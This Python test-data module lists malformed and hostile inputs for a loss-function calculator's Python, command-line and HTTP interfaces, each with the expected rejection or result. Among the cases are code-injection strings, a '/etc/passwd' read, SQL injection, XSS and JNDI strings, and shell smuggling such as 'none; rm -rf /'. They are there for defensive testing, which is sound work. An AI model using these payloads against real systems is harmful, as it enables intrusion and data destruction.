"""Malformed and hostile inputs, as data, for tests/test_hostile.py.

Each `Case` is one input given to the Python API, the command line and the HTTP API. `expect` says what
must happen: "error" (one InputError whose message says what was expected), "ok" (the input is valid
and must be computed), or "either" (the contract does not decide between a clean InputError and a
result: both pass, anything else fails).

Files are built per test in tmp_path by the functions in FILES (the Python API gets a pathlib.Path, the
command line `@path`; the HTTP API takes text only, so file cases do not go through it).
"""

from __future__ import annotations

import decimal
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import torch

ALL = ("python", "cli", "http")
LOCAL = ("python", "cli")  # files and monkeypatched limits: the HTTP server is another process
NO_CLI = ("python", "http")  # the params JSON text: the command line has --param NAME=VALUE instead

P3, T3 = "[0.2947, 0.5898, 0.4863]", "[1, 0, 0]"  # article 001's BCE example (0.926341)
LOGITS, CLASSES = "[[1.0, 2.0, 0.5], [0.1, -1.0, 2.0]]", "[0, 2]"
VALUES, VALUES_T = "[1.0, 2.0, 3.0]", "[1.5, 2.0, 2.0]"
MASK_P, MASK_T = "[[0.9, 0.1], [0.8, 0.3]]", "[[1, 0], [1, 1]]"
MARKER = "PWNED"  # a file that a payload would create in tmp_path if it were ever executed


@dataclass(frozen=True)
class Case:
    id: str
    loss: str
    pred: Any = None
    target: Any = None
    params: dict[str, Any] | None = field(default_factory=dict)  # None: use params_json (read_params)
    claimed: Any = None
    reduction: Any = None
    device: Any = None
    dtype: Any = None
    match: str | None = None  # a regex the InputError message must contain (re.search)
    expect: str = "error"  # "error", "ok" or "either"
    params_json: str | None = None  # the HTTP params text when it is not json.dumps(params)
    cli_params: tuple[str, ...] | None = None  # --param NAME=VALUE pairs when not derived from params
    cli_extra: tuple[str, ...] = ()  # more command-line arguments (CLI-only spellings)
    interfaces: tuple[str, ...] = ALL
    file: str | None = None  # a key of FILES: pred is that file (a Path in Python, @path on the CLI)
    limits: dict[str, int] = field(default_factory=dict)  # lossapp.inputs.limits overrides (LOCAL only)

    def __post_init__(self) -> None:
        if self.expect not in ("error", "ok", "either"):
            raise ValueError(f"{self.id}: expect must be error, ok or either")
        if (self.file or self.limits) and "http" in self.interfaces:
            raise ValueError(f"{self.id}: files and limits are local: interfaces=LOCAL")
        if self.params is None and self.cli_params is None and "cli" in self.interfaces:
            raise ValueError(f"{self.id}: params given as JSON text need cli_params for the command line")


def deep(n: int, leaf: str = "0.5") -> str:
    return "[" * n + leaf + "]" * n


def deep_list(n: int, leaf: Any = 0.5) -> Any:
    value = leaf
    for _ in range(n):
        value = [value]
    return value


# -- tensor text: brackets, nesting, numbers, characters, code ----------------------------------------

TEXT = [
    Case("br_unclosed", "mse", "[[0.1, 0.2]", "[0.1, 0.2]", match="bracket"),
    Case("br_extra_close", "mse", "[0.1, 0.2]]", "[0.1, 0.2]", match="bracket"),
    Case("br_reversed", "mse", "]0.1, 0.2[", "[0.1, 0.2]"),
    Case("br_mixed_kinds", "mse", "[(0.1, 0.2]}", "[0.1, 0.2]"),
    Case("br_curly_set", "mse", "{0.1, 0.2}", "[0.1, 0.2]"),
    Case("br_angle", "mse", "<0.1, 0.2>", "[0.1, 0.2]"),
    Case("br_only_open", "mse", "[", "[1]"),
    Case("br_only_close", "mse", "]", "[1]"),
    Case("br_empty_list", "mse", "[]", "[1]"),
    Case("br_nested_empty", "mse", "[[], []]", "[1]"),
    Case("br_empty_tensor", "mse", "tensor([])", "[1]"),
    Case("br_deep_39k", "mse", deep(39_000), "[0.5]", match="dimensions"),
    Case("br_deep_39k_unclosed", "mse", "[" * 39_000 + "0.5", "[0.5]", match="bracket"),
    Case("br_deep_39k_empty", "mse", "[" * 39_000 + "]" * 39_000, "[0.5]"),
    Case("br_deep_33", "mse", deep(33), "[0.5]", match="32 dimensions"),
    Case("br_json_object_39k", "mse", "{" * 39_000, "[0.5]"),
    Case("br_json_object_nested_39k", "mse", '{"a": ' * 39_000 + "1" + "}" * 39_000, "[0.5]"),
    Case("br_tensor_unclosed_forgiven", "mse", "tensor([0.1, 0.2], dtype=torch.float64", "[0.1, 0.2]", expect="ok"),
    Case("br_tensor_unclosed_list", "mse", "tensor([0.1, 0.2)", "[0.1, 0.2]"),
    Case("br_tensor_paren_only", "mse", "tensor(", "[1]"),
    Case("br_tensor_39k_parens", "mse", "tensor(" * 39_000 + "1" + ")" * 39_000, "[1]"),
    Case("br_array_object", "mse", "array([1, 2], dtype=object)", "[1, 2]", expect="either"),
    Case("br_summarized", "mse", "tensor([0.1, ..., 0.9])", "[0.1, 0.2, 0.9]", match=r"\.\.\."),
    Case("br_label_only", "mse", "x = ", "[1]"),
    Case("br_parameter_only", "mse", "Parameter containing:", "[1]"),
    Case("num_5000_digit_int", "mse", "1" * 5000, "1"),
    Case("num_5000_digit_int_in_list", "mse", "[" + "9" * 5000 + ", 1]", "[1, 1]"),
    Case("num_5000_digit_negative", "mse", "[-" + "9" * 5000 + "]", "[1]"),
    Case("num_5000_decimals", "bce", "[0." + "1" * 5000 + "]", "[1]", expect="ok"),
    Case("num_exp_tiny", "bce", "[3e-9999999999999999999, 0.5]", "[0, 1]", expect="ok"),  # 0.0, as Python reads it
    Case("num_exp_huge", "mse", "[3e9999999999999999999]", "[1]"),
    Case("num_exp_huge_neg_prob", "bce", "[-1e400, 0.5]", "[0, 1]"),
    Case("num_exp_huge_target", "mse", "[1, 2]", "[1, 1e309]"),
    Case("num_exp_5000_digits", "mse", "[1e" + "9" * 5000 + "]", "[1]"),
    Case("num_int_beyond_int64", "mse", "[18446744073709551616, 1]", "[1, 1]", expect="ok"),
    Case("num_hex", "mse", "[0x10, 1]", "[1, 1]"),
    Case("num_underscore", "mse", "[1_000, 1]", "[1, 1]"),
    Case("num_double_exp", "mse", "[1e5e5]", "[1]"),
    Case("num_double_minus", "mse", "[--1]", "[1]"),
    Case("num_lone_dot", "mse", "[., 1]", "[1, 1]"),
    Case("num_two_dots", "mse", "[1.2.3]", "[1]"),
    Case("num_complex", "mse", "[1+2j, 1]", "[1, 1]"),
    Case("num_fraction", "mse", "[1/3, 0.5]", "[1, 1]"),
    Case("num_sum_expression", "mse", "[0.1+0.2, 0.5]", "[1, 1]"),
    Case("num_percent", "mse", "[50%, 1]", "[1, 1]"),
    Case("num_arabic_indic", "mse", "[٠.٥, 1]", "[1, 1]", expect="either"),
    Case("num_superscript", "mse", "[², 1]", "[1, 1]"),
    Case("num_vulgar_fraction", "mse", "[½]", "[1]"),
    Case("num_math_bold_digit", "mse", "[𝟙]", "[1]"),
    Case("nan_probabilities", "bce", "[nan, 0.5, 0.5]", T3, match="NaN"),
    Case("inf_probabilities", "bce", "[inf, 0.5, 0.5]", T3),
    Case("nan_logits", "bce_with_logits", "[NaN, 0.5]", "[1, 0]", match="NaN"),
    Case("inf_logits_allowed", "bce_with_logits", "[inf, -inf]", "[1, 0]", expect="ok"),
    Case("infinity_target", "mse", "[1, 2]", "[1, Infinity]"),
    Case("nan_target_mse", "mse", "[1, 2]", "[nan, 1]"),
    Case("nan_class_target", "cross_entropy", LOGITS, "[0, nan]"),
    Case("inf_class_target", "cross_entropy", LOGITS, "[0, inf]"),
    Case("ch_null_byte", "mse", "[0.1,\x00 0.2]", "[0.1, 0.2]"),
    Case("ch_null_only", "mse", "\x00", "[1]"),
    Case("ch_null_many", "mse", "\x00" * 100_000, "[1]"),
    Case("ch_lone_surrogate", "mse", "[0.1, \ud800]", "[0.1, 0.2]"),
    Case("ch_lone_low_surrogate", "mse", "\udfff", "[1]"),
    Case("ch_emoji", "mse", "[0.5, \U0001f600]", "[1, 1]"),
    Case("ch_rtl_override", "mse", "\u202e[0.5, 1]", "[1, 1]"),
    Case("ch_combining", "mse", "[0\u0338.5]", "[1]"),
    Case("ch_zero_width_in_number", "bce", "[0.2\u200b947, 0.5898, 0.4863]", T3),
    Case("ch_fullwidth_valid", "bce", "［０．２９４７，０．５８９８，０．４８６３］", T3, expect="ok"),
    Case("ch_fullwidth_letters", "mse", "［ａｂｃ］", "[1]"),
    Case("ch_bom_valid", "bce", "\ufeff" + P3, T3, expect="ok"),
    Case("ch_unicode_line_separators", "mse", "1\u2028 2\u2029 3\x85", VALUES_T, expect="either"),
    Case("ch_control_chars", "mse", "[1\x1c, 2\x1d, 3\x1e]", VALUES_T, expect="either"),
    Case("ch_vertical_tab_formfeed", "mse", "1\x0b2\x0c3", VALUES_T, expect="either"),
    Case("ch_cr_rows", "mse", "1 2\r3 4", "[[1, 2], [3, 4]]", expect="either"),
    Case("ws_huge_valid", "bce", " " * 2_000_000 + P3 + "\n" * 500_000, T3, expect="ok"),
    Case("ws_huge_only", "mse", " \t\n" * 2_000_000, "[1]"),
    Case("ws_tabs_newlines", "mse", "\t\n\r\n\t", "[1]"),
    Case("ragged_rows", "mse", "[[1, 2], [3]]", "[[1, 2], [3, 4]]", match="equal length|rectangular"),
    Case("ragged_deep", "mse", "[[[1], [2]], [[3]]]", "[1]"),
    Case("ragged_mixed_levels", "mse", "[1, [2, 3]]", "[1, 2]", match="rectangular"),
    Case("ragged_text_rows", "mse", "1 2\n3", "[[1, 2], [3, 4]]", match="line"),
    Case("ragged_matlab_rows", "mse", "1 2; 3", "[[1, 2], [3, 4]]"),
    Case("empty_text", "mse", "", "[1]"),
    Case("empty_spaces", "mse", "   ", "[1]"),
    Case("commas_only", "mse", ",,,,", "[1]"),
    Case("commas_in_brackets", "mse", "[,]", "[1]"),
    Case("comma_double", "mse", "[1,,2]", "[1, 2]"),
    Case("comma_leading", "mse", "[,1, 2]", "[1, 2]"),
    Case("comment_only", "mse", "# only a comment\n# and another", "[1]"),
    Case("csv_header_only", "mse", "a,b\n", "[1, 2]"),
    Case("code_import_os", "mse", "__import__('os').system('touch PWNED')", "[1]"),
    Case("code_eval", "mse", "eval('[1, 2]')", "[1, 2]"),
    Case("code_exec", "mse", "exec('import os')", "[1]"),
    Case("code_lambda", "mse", "lambda x: [0.5]", "[1]"),
    Case("code_lambda_as_label", "mse", "lambda: [0.5]", "[1]", expect="either"),  # "name: [...]" is a label
    Case("code_lambda_called", "mse", "(lambda x: x)([0.5])", "[1]"),
    Case("code_list_comprehension", "mse", "[i for i in range(3)]", "[1, 2, 3]"),
    Case("code_dunder_class", "mse", "().__class__.__bases__[0].__subclasses__()", "[1]"),
    Case("code_tensor_method", "mse", "tensor([0.5, 0.2]).exp()", "[1, 1]"),
    Case("code_statement_after", "mse", "np.array([0.5, 0.2]); import os", "[1, 1]"),
    # a random spec is text to parse where there is no seed to draw it with; the command line draws it (--seed)
    Case("code_random_spec", "mse", "torch.rand(3)", "[1, 2, 3]", match="random", interfaces=("python", "http")),
    Case("cli_random_spec_drawn", "mse", "torch.rand(3)", "[1, 2, 3]", expect="ok", interfaces=("cli",)),
    Case("cli_random_spec_too_large", "mse", "randn(100000, 100000)", "[1]", match="elements", interfaces=("cli",)),
    Case("cli_random_spec_with_code", "mse", "randn(__import__('os').getpid())", "[1]", interfaces=("cli",)),
    Case("cli_seed_not_an_integer", "mse", "randn(3)", "randn(3)", cli_extra=("--seed", "x"), match="seed",
         interfaces=("cli",)),
    Case("cli_seed_out_of_range", "mse", "randn(3)", "randn(3)", cli_extra=("--seed", str(2**70)), match="seed",
         interfaces=("cli",)),
    Case("code_open_file", "mse", "open('/etc/passwd').read()", "[1]"),
    Case("sql_drop", "mse", "1; DROP TABLE losses; --", "[1]"),
    Case("sql_or", "mse", "' OR '1'='1", "[1]"),
    Case("sql_union", "mse", "1 UNION SELECT password FROM users", "[1]"),
    Case("html_script", "mse", "<script>alert(1)</script>", "[1]"),
    Case("html_img_onerror", "mse", "<img src=x onerror=alert(1)>", "[1]"),
    Case("js_url", "mse", "javascript:alert(document.cookie)", "[1]"),
    Case("template_jndi", "mse", "${jndi:ldap://example.invalid/a}", "[1]"),
    Case("format_string", "mse", "%s%s%s%n{0}{1}", "[1]"),
    Case("json_object_one_list", "mse", '{"__class__": [1, 2]}', "[1, 2]", expect="ok"),
    Case("json_object_two_keys", "mse", '{"a": [1, 2], "b": "rm -rf /"}', "[1, 2]"),
    Case("json_object_string", "mse", '"[1, 2]"', "[1, 2]"),
    Case("token_1mb", "mse", "a" * 1_000_000, "[1]"),
    Case("junk_1mb_in_brackets", "mse", "[" + "x," * 500_000 + "]", "[1]"),
    Case("json_number_pred_valid", "bce", 0.5, "1", expect="ok"),
    Case("json_null_pred", "bce", None, "1"),
    Case("json_object_pred", "bce", {"a": [0.5]}, "[1]", expect="either"),
    Case("json_strings_pred", "bce", ["0.5", "abc"], "[1, 0]"),
    Case("json_nested_target", "bce", P3, [[1, 0, 0]], match="shape"),
    Case("target_missing", "bce", P3, None, match="target"),
    Case("penalty_with_target", "l2_penalty", "[1, -2, 3]", "[1, 2, 3]", match="target"),
    Case("too_many_elements", "mse", "0 " * 2_000_001, "[0]", match="elements", limits={"MAX_ELEMENTS": 2_000_000},
         interfaces=LOCAL),
    Case("too_many_characters", "mse", "0" * 40_000_001, "[0]", match="characters", interfaces=LOCAL),
]

# -- shapes and ranges ---------------------------------------------------------------------------------

SHAPES = [
    Case("shape_bce_3_vs_2", "bce", P3, "[1, 0]", match=r"\(3,\).*\(2,\)"),
    Case("shape_mse_2x2_vs_4", "mse", "[[1, 2], [3, 4]]", "[1, 2, 3, 4]"),
    Case("shape_scalar_vs_vector_bce", "bce", "0.5", T3),
    Case("shape_ce_target_rows", "cross_entropy", LOGITS, "[0, 1, 2]"),
    Case("shape_ce_target_probs_classes", "cross_entropy", LOGITS, "[[0.5, 0.5, 0, 0], [1, 0, 0, 0]]"),
    Case("shape_ce_scalar_pred", "cross_entropy", "0.5", "0"),
    Case("shape_nll_2d_target", "nll", "[[-0.1, -2.0, -3.0], [-1.0, -0.5, -2.0]]", "[[0, 1], [1, 0]]"),
    Case("shape_kl", "kl_div", "[-0.1, -2.0, -3.0]", "[0.5, 0.5]"),
    Case("shape_dice", "dice", MASK_P, "[[1, 0, 1], [0, 1, 0]]"),
    Case("shape_hinge", "hinge", "[0.5, -0.2]", "[1, -1, 1]"),
    Case("shape_multi_margin_3d", "multi_margin", "[[[1, 2], [3, 4]]]", "[0]"),
    Case("shape_bce_weight", "bce", P3, T3, params={"weight": "[1, 2]"}),
    Case("shape_ce_weight_classes", "cross_entropy", LOGITS, CLASSES, params={"weight": "[1, 2]"}),
    Case("shape_pos_weight", "bce_with_logits", "[0.5, -0.2]", "[1, 0]", params={"pos_weight": "[1, 2, 3]"}),
    Case("shape_softmax_focal_alpha", "softmax_focal", LOGITS, CLASSES, params={"alpha": "[0.1, 0.2]"}),
    Case("range_prob_above_1", "bce", "[1.5, 0.5, 0.5]", T3, match="1.5"),
    Case("range_prob_negative", "bce", "[-0.1, 0.5, 0.5]", T3, match="-0.1"),
    Case("range_bce_target_2", "bce", P3, "[2, 0, 0]"),
    Case("range_ce_index_1e30", "cross_entropy", LOGITS, "[1e30, 0]", match=r"1e\+30"),
    Case("range_ce_index_negative", "cross_entropy", LOGITS, "[-1, 0]"),
    Case("range_ce_index_float", "cross_entropy", LOGITS, "[0.5, 1]", match="0.5"),
    Case("range_ce_index_int64_max", "cross_entropy", LOGITS, "[9223372036854775807, 0]"),
    Case("range_ce_index_beyond_int64", "cross_entropy", LOGITS, "[-9223372036854775809, 0]"),
    Case("range_nll_index_C", "nll", "[[-0.1, -2.0, -3.0], [-1.0, -0.5, -2.0]]", "[3, 0]"),
    Case("range_nll_positive_logp_warned", "nll", "[[0.5, -2.0, -3.0], [-1.0, -0.5, -2.0]]", "[0, 1]",
         expect="ok"),  # by design: nll_loss takes pred as given, with a warning
    Case("range_kl_target_above_1", "kl_div", "[-0.1, -2.0, -3.0]", "[1.5, 0.2, 0.3]"),
    Case("range_hinge_target_2", "hinge", "[0.5, -0.2]", "[2, -1]"),
    Case("range_focal_target_2", "focal", "[0.5, -0.2]", "[2, 0]"),
    Case("range_dice_pred", "dice", "[[1.2, 0.1], [0.8, 0.3]]", MASK_T),
    Case("range_ce_probabilities_input", "cross_entropy", "[[1.5, -0.5, 0.0], [0.2, 0.3, 0.5]]", CLASSES,
         params={"input": "probabilities"}),
    Case("range_multi_margin_index_1e30", "multi_margin", LOGITS, "[1e30, 0]"),
    Case("range_softmax_focal_index", "softmax_focal", LOGITS, "[5, 0]"),
    Case("range_zero_one_nan", "zero_one", "[nan, 0.2]", "[1, 0]"),
]

# -- parameters ----------------------------------------------------------------------------------------

PARAMS = [
    Case("param_unknown", "bce", P3, T3, params={"beta": 1}, match="unknown parameter"),
    Case("param_unknown_no_params", "mse", VALUES, VALUES_T, params={"weight": "[1, 2, 3]"}),
    Case("param_unknown_dunder", "bce", P3, T3, params={"__class__": 1}),
    Case("param_name_1mb", "bce", P3, T3, params={"w" * 1_000_000: 1}),
    Case("param_name_empty", "bce", P3, T3, params={"": 1}, cli_params=("=1",)),
    Case("param_name_surrogate", "bce", P3, T3, params={"\ud800": 1}),
    Case("param_claimed_in_compute", "bce", P3, T3, params={"claimed": "0.9264"}),
    Case("param_other_loss_counts", "bce", P3, T3, params={"tp": 20}),
    # Reserved names are compute's own arguments: only data (CLI --param, the HTTP params JSON) can collide.
    *(Case(f"param_reserved_{name}", "bce", P3, T3, params={name: value}, interfaces=("cli", "http"),
           match="argument of its own|expected one of")
      for name, value in (("reduction", "sum"), ("device", "cpu"), ("dtype", "float64"), ("pred", "[1]"),
                          ("target", "[1]"), ("loss", "mse"))),
    Case("param_ignore_index_1e30", "cross_entropy", LOGITS, CLASSES, params={"ignore_index": 1e30}),
    Case("param_ignore_index_neg_1e30", "cross_entropy", LOGITS, CLASSES, params={"ignore_index": -1e30}),
    Case("param_ignore_index_5000_digits", "cross_entropy", LOGITS, CLASSES, params={"ignore_index": "9" * 5000}),
    Case("param_ignore_index_float", "cross_entropy", LOGITS, CLASSES, params={"ignore_index": 0.5},
         match="integer"),
    Case("param_ignore_index_nan_text", "cross_entropy", LOGITS, CLASSES, params={"ignore_index": "nan"}),
    Case("param_beta_negative", "smooth_l1", VALUES, VALUES_T, params={"beta": -1}, match=r"\[0\.0, 10\.0\]"),
    Case("param_beta_nan_text", "smooth_l1", VALUES, VALUES_T, params={"beta": "nan"}),
    Case("param_beta_1e999_text", "smooth_l1", VALUES, VALUES_T, params={"beta": "1e999"}),
    Case("param_beta_inf_float", "smooth_l1", VALUES, VALUES_T, params={"beta": float("inf")}),
    Case("param_beta_nan_float", "smooth_l1", VALUES, VALUES_T, params={"beta": float("nan")}),
    Case("param_beta_bool", "smooth_l1", VALUES, VALUES_T, params={"beta": True}),
    Case("param_beta_list", "smooth_l1", VALUES, VALUES_T, params={"beta": [1, 2]}),
    Case("param_beta_dict", "smooth_l1", VALUES, VALUES_T, params={"beta": {"a": 1}}),
    Case("param_beta_none", "smooth_l1", VALUES, VALUES_T, params={"beta": None}),
    Case("param_beta_code", "smooth_l1", VALUES, VALUES_T, params={"beta": "__import__('os').getpid()"}),
    Case("param_beta_5000_digits", "smooth_l1", VALUES, VALUES_T, params={"beta": "1" * 5000}),
    Case("param_delta_zero", "huber", VALUES, VALUES_T, params={"delta": 0}),
    Case("param_label_smoothing_1_5", "cross_entropy", LOGITS, CLASSES, params={"label_smoothing": 1.5}),
    Case("param_label_smoothing_sql", "cross_entropy", LOGITS, CLASSES, params={"label_smoothing": "0.1; DROP"}),
    Case("param_input_bad_choice", "cross_entropy", LOGITS, CLASSES, params={"input": "logit"}),
    Case("param_input_number", "cross_entropy", LOGITS, CLASSES, params={"input": 5}),
    Case("param_input_1mb", "cross_entropy", LOGITS, CLASSES, params={"input": "x" * 1_000_000}),
    Case("param_activation_relu", "dice", MASK_P, MASK_T, params={"activation": "relu"}),
    Case("param_per_sample_maybe", "dice", MASK_P, MASK_T, params={"per_sample": "maybe"}),
    Case("param_per_sample_2", "dice", MASK_P, MASK_T, params={"per_sample": 2}),
    Case("param_log_target_yes_valid", "kl_div", "[-0.1, -2.0, -3.0]", "[0.5, 0.2, 0.3]",
         params={"log_target": "no"}, expect="ok"),
    Case("param_focal_alpha_2", "focal", "[0.5, -0.2]", "[1, 0]", params={"alpha": 2}),
    Case("param_focal_gamma_negative", "focal", "[0.5, -0.2]", "[1, 0]", params={"gamma": -1}),
    Case("param_focal_gamma_1e309", "focal", "[0.5, -0.2]", "[1, 0]", params={"gamma": "1e309"}),
    Case("param_focal_avg_factor_negative", "focal", "[0.5, -0.2]", "[1, 0]", params={"avg_factor": -1}),
    Case("param_focal_avg_factor_zero", "focal", "[0.5, -0.2]", "[1, 0]", params={"avg_factor": 0}),
    Case("param_weight_text", "bce", P3, T3, params={"weight": "abc"}),
    Case("param_weight_nan", "bce", P3, T3, params={"weight": "[1, nan, 1]"}),
    Case("param_weight_inf", "bce", P3, T3, params={"weight": "[1e400, 1, 1]"}),
    Case("param_weight_code", "bce", P3, T3, params={"weight": "__import__('os')"}),
    Case("param_weight_strings", "bce", P3, T3, params={"weight": ["a", "b", "c"]}),
    Case("param_weight_list_nested_ragged", "bce", P3, T3, params={"weight": [[1, 2], [3]]}),
    Case("param_weight_deep_text", "bce", P3, T3, params={"weight": deep(10_000, "1")}),
    Case("param_weight_bool", "bce", P3, T3, params={"weight": True}, expect="either"),
    Case("param_ce_weight_nan", "cross_entropy", LOGITS, CLASSES, params={"weight": "[1, nan, 1]"}),
    Case("param_softmax_focal_alpha_range", "softmax_focal", LOGITS, CLASSES, params={"alpha": "[0.1, 2, 0.3]"},
         expect="either"),
    Case("param_multi_margin_p_3", "multi_margin", LOGITS, CLASSES, params={"p": 3}),
    Case("param_multi_margin_p_1_5", "multi_margin", LOGITS, CLASSES, params={"p": 1.5}),
    Case("param_tversky_alpha_1e30", "tversky", MASK_P, MASK_T, params={"alpha": 1e30}),
    Case("param_l2_lam_negative", "l2_penalty", "[1, -2, 3]", None, params={"lam": -0.5}),
    Case("param_truncated_m_text", "truncated_ce", "[0.9, 0.2]", "[1, 0]", params={"m": "sixty"}),
    # The params JSON itself (HTTP); Python reads it with lossapp.inputs.read_params.
    Case("pjson_not_json", "bce", P3, T3, params=None, interfaces=NO_CLI, params_json="{beta: 1}", match="JSON"),
    Case("pjson_array", "bce", P3, T3, params=None, interfaces=NO_CLI, params_json="[1, 2]", match="JSON object"),
    Case("pjson_null", "bce", P3, T3, params=None, interfaces=NO_CLI, params_json="null"),
    Case("pjson_string", "bce", P3, T3, params=None, interfaces=NO_CLI, params_json='"weight"'),
    Case("pjson_python_dict", "bce", P3, T3, params=None, interfaces=NO_CLI, params_json="{'weight': None}"),
    Case("pjson_deep_10k_object", "bce", P3, T3, params=None, interfaces=NO_CLI,
         params_json='{"weight": ' + '{"a": ' * 10_000 + "1" + "}" * 10_001),
    Case("pjson_deep_10k_list", "bce", P3, T3, params=None,
         params_json='{"weight": ' + deep(10_000, "1") + "}", cli_params=("weight=" + deep(10_000, "1"),)),
    Case("pjson_open_10k", "bce", P3, T3, params=None, interfaces=NO_CLI, params_json="{" * 10_000),
    Case("pjson_nan", "smooth_l1", VALUES, VALUES_T, params=None, params_json='{"beta": NaN}',
         cli_params=("beta=NaN",)),
    Case("pjson_infinity", "smooth_l1", VALUES, VALUES_T, params=None, params_json='{"beta": 1e999}',
         cli_params=("beta=1e999",)),
    Case("pjson_5000_digit_int", "smooth_l1", VALUES, VALUES_T, params=None,
         params_json='{"beta": ' + "1" * 5000 + "}", cli_params=("beta=" + "1" * 5000,)),
    Case("pjson_trailing_garbage", "bce", P3, T3, params=None, interfaces=NO_CLI,
         params_json='{"weight": null} DROP TABLE'),
    Case("pjson_null_byte", "bce", P3, T3, params=None, interfaces=NO_CLI, params_json='{"weight": null}\x00'),
    Case("pjson_empty_valid", "bce", P3, T3, params=None, params_json="", expect="ok", cli_params=()),
    Case("pjson_spaces_valid", "bce", P3, T3, params=None, params_json='  {"weight": null}  ', expect="ok",
         cli_params=("weight=",)),
]

# -- losses, reductions, dtypes, devices --------------------------------------------------------------

NAMES = [
    Case("loss_unknown", "bcee", P3, T3, match="bce"),
    Case("loss_1mb_name", "x" * 1_000_000, P3, T3),
    Case("loss_empty", "", P3, T3),
    Case("loss_spaces", "   ", P3, T3),
    Case("loss_chinese", "交叉熵", P3, T3),
    Case("loss_null_byte", "bce\x00", P3, T3),
    Case("loss_surrogate", "\ud800", P3, T3),
    Case("loss_code", "__import__('os')", P3, T3),
    Case("loss_path", "../../etc/passwd", P3, T3),
    Case("loss_html", "<script>alert(1)</script>", P3, T3),
    Case("loss_torch_class_valid", "nn.BCELoss", P3, T3, expect="ok"),
    Case("red_unknown", "bce", P3, T3, reduction="average", match="reduction"),
    Case("red_batchmean_bce", "bce", P3, T3, reduction="batchmean"),
    Case("red_none_for_dice_ce", "dice_ce", MASK_P, MASK_T, reduction="none"),
    Case("red_shell", "bce", P3, T3, reduction="none; rm -rf /"),
    Case("red_100k", "bce", P3, T3, reduction="x" * 100_000),
    Case("red_null_byte", "bce", P3, T3, reduction="mean\x00"),
    Case("red_number", "bce", P3, T3, reduction=5),
    Case("red_list", "bce", P3, T3, reduction=["mean"]),
    Case("device_list", "bce", P3, T3, device=["cpu"]),
    Case("red_upper_valid", "bce", P3, T3, reduction=" SUM ", expect="ok"),
    Case("dtype_float128", "bce", P3, T3, dtype="float128", match="float16"),
    Case("dtype_int64", "bce", P3, T3, dtype="int64"),
    Case("dtype_complex", "bce", P3, T3, dtype="complex64"),
    Case("dtype_100k", "bce", P3, T3, dtype="f" * 100_000),
    Case("dtype_surrogate", "bce", P3, T3, dtype="\udc80"),
    Case("dtype_torch_prefix_valid", "bce", P3, T3, dtype="torch.float64", expect="ok"),
    Case("device_cuda_99", "bce", P3, T3, device="cuda:99", match="cuda:99"),
    Case("device_cuda_huge_index", "bce", P3, T3, device="cuda:99999999999999999999"),
    Case("device_mps", "bce", P3, T3, device="mps", match="mps"),
    Case("device_cuda", "bce", P3, T3, device="cuda"),
    Case("device_tpu", "bce", P3, T3, device="tpu"),
    Case("device_meta", "bce", P3, T3, device="meta"),
    Case("device_100k", "bce", P3, T3, device="c" * 100_000),
    Case("device_null_byte", "bce", P3, T3, device="cpu\x00"),
]

# -- claimed answers ---------------------------------------------------------------------------------

CLAIMS = [
    Case("claim_text", "bce", P3, T3, claimed="abc", match="claimed"),
    Case("claim_empty", "bce", P3, T3, claimed="", match="claimed"),
    Case("claim_spaces", "bce", P3, T3, claimed="   "),
    Case("claim_sql", "bce", P3, T3, claimed="0.9264; DROP TABLE answers"),
    Case("claim_code", "bce", P3, T3, claimed="__import__('os').getpid()"),
    Case("claim_hex_float", "bce", P3, T3, claimed="0x1p-2"),
    Case("claim_fraction", "bce", P3, T3, claimed="1/2"),
    Case("claim_vulgar_fraction", "bce", P3, T3, claimed="½"),
    Case("claim_trailing_e", "bce", P3, T3, claimed="0.9264e"),
    Case("claim_two_numbers", "bce", P3, T3, claimed="0.9264 0.9265"),
    Case("claim_1mb", "bce", P3, T3, claimed="9" * 1_000_000, expect="error", match="claimed"),
    Case("claim_on_5000_decimal_input", "bce", "[0." + "2" * 5000 + ", 0.5898, 0.4863]", T3, claimed="0.9",
         expect="either"),
    Case("claim_on_tiny_exponent_input", "bce", "[3e-9999999999999999999, 0.5898, 0.4863]", T3, claimed="0.9",
         expect="either"),
    Case("claim_1mb_junk", "bce", P3, T3, claimed="9" * 1_000_000 + "x"),
    Case("claim_null_byte", "bce", P3, T3, claimed="0.9264\x00"),
    Case("claim_1e_minus_400", "bce", P3, T3, claimed="1e-400", expect="error", match="claimed"),
    Case("claim_400_decimals", "bce", P3, T3, claimed="0." + "0" * 399 + "1", expect="error", match="claimed"),
    Case("claim_exp_minus_huge", "bce", P3, T3, claimed="1.5e-99999999999", expect="error", match="claimed"),
    Case("claim_1e400", "bce", P3, T3, claimed="1e400", expect="error", match="claimed"),
    Case("claim_5000_digits", "bce", P3, T3, claimed="9" * 5000, expect="error", match="claimed"),
    Case("claim_5000_decimals", "bce", P3, T3, claimed="0." + "9" * 5000, expect="error", match="claimed"),
    Case("claim_nan", "bce", P3, T3, claimed="nan", expect="either"),
    Case("claim_arabic_indic", "bce", P3, T3, claimed="٠.٩٢٦٤", expect="either"),
    Case("claim_fullwidth", "bce", P3, T3, claimed="０．９２６４", expect="either"),
    Case("claim_bad_input_first", "bce", "[1.5, 0.5, 0.5]", T3, claimed="0.9264", match="probabilities"),
    Case("claim_rounding_valid", "bce", P3, T3, claimed="0.9264", expect="ok"),
    Case("claim_missing_minus_valid", "bce", P3, T3, claimed=" -0.9264 ", expect="ok"),
]

# -- confusion counts ----------------------------------------------------------------------------------


def counts(tp: Any = 20, fp: Any = 5, fn: Any = 10, tn: Any = 65, metric: Any = "dice") -> dict[str, Any]:
    return {"tp": tp, "fp": fp, "fn": fn, "tn": tn, "metric": metric}


CONFUSION = [
    Case("cm_negative", "confusion", params=counts(tp=-3), match="non-negative integer count for tp"),
    Case("cm_fraction", "confusion", params=counts(fp=1.5)),
    Case("cm_text", "confusion", params=counts(fn="abc")),
    Case("cm_empty_text", "confusion", params=counts(tp="")),
    Case("cm_1e30", "confusion", params=counts(tp=1e30), match="10"),
    Case("cm_1e30_text", "confusion", params=counts(tp="1e30")),
    Case("cm_5000_digits", "confusion", params=counts(tp="9" * 5000)),
    Case("cm_nan_text", "confusion", params=counts(tp="nan")),
    Case("cm_inf_text", "confusion", params=counts(tn="inf")),
    Case("cm_bool", "confusion", params=counts(tp=True)),
    Case("cm_list", "confusion", params=counts(tp=[1, 2])),
    Case("cm_code", "confusion", params=counts(tp="__import__('os').getpid()")),
    Case("cm_null_byte", "confusion", params=counts(tp="20\x00")),
    Case("cm_metric_bogus", "confusion", params=counts(metric="bogus"), match="metric"),
